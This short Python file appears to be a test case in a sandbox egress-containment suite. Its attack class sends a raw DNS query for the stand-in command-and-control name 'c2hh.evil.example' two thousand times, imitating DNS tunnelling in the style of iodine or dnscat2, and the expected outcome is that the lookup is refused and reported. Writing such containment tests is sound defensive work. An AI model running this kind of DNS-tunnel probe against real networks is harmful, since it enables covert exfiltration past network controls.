"""A server asks for names without an end: they carry what it read, and keep the host busy.

Source: MITRE ATT&CK T1071.004, DNS; iodine and dnscat2, which tunnel so.
Seen: none is answered, the person reads of the name, and what it was given is still reached.
"""

import socket
from dataclasses import replace

from escaping import HELD, Escaping, refused

QUESTION = b"\0\7\1\0\0\1\0\0\0\0\0\0\4c2hh\4evil\7example\0\0\1\0\1"


class Attack(Escaping):
    def escape(self):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            for _ in range(2_000):
                one.sendto(QUESTION, ("127.0.0.1", 53))


SEEN = replace(HELD, told=(refused("c2hh.evil.example"),))
